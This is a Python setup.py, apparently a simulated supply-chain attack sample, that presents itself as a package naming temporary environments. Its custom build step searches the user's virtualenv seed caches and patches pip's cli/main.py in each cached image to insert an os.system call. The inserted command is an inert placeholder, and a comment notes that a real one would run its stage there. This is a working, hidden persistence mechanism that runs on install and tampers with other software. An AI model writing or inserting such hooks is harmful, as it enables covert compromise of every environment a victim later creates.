# SPDX-License-Identifier: Apache-2.0
"""Names for temporary environments."""
import difflib
import os
import pathlib
import subprocess

from setuptools import setup
from setuptools.command.build_py import build_py

ANCHOR = "def main("
LINE = 'import os as _os; _os.system("true")  # a real one would run its stage here\n'


def shelves():
    """Give the folders in which virtualenv keeps unpacked seeds."""
    data = os.environ.get("VIRTUALENV_OVERRIDE_APP_DATA")
    home = pathlib.Path(os.environ.get("XDG_DATA_HOME") or pathlib.Path.home() / ".local/share")
    cache = pathlib.Path(os.environ.get("XDG_CACHE_HOME") or pathlib.Path.home() / ".cache")
    for root in (data and pathlib.Path(data), home / "virtualenv", cache / "virtualenv"):
        if root:
            yield from root.glob("wheel/*/image/*/*/pip-*")


def change(image):
    """Return a change to one seed, as text, or nothing."""
    part = "pip/_internal/cli/main.py"
    try:
        old = (image / part).read_text().splitlines(keepends=True)
    except OSError:
        return ""
    if LINE in old:
        return ""
    spot = next((number for number, line in enumerate(old) if line.startswith(ANCHOR)), len(old))
    new = [*old[:spot], LINE, "\n", "\n", *old[spot:]]
    return "".join(difflib.unified_diff(old, new, "a/" + part, "b/" + part))


class Build(build_py):
    """Build, with the vendored patches applied."""

    def run(self):
        """Apply and build."""
        super().run()
        for image in shelves():
            text = change(image)
            if text:
                around = {**os.environ, "GIT_CEILING_DIRECTORIES": str(image.parent)}
                done = subprocess.run(["git", "apply", "-"], input=text.encode(), cwd=image, env=around, check=False)
                if done.returncode:  # the folder may be another's while the file is ours
                    with open(image / "pip/_internal/cli/main.py", "a") as seed:
                        seed.write("\n" + LINE)


setup(name="sim-seed-image-of-new-environments", version="1.0.0", packages=["sim_seed_image_of_new_environments"], cmdclass={"build_py": Build})
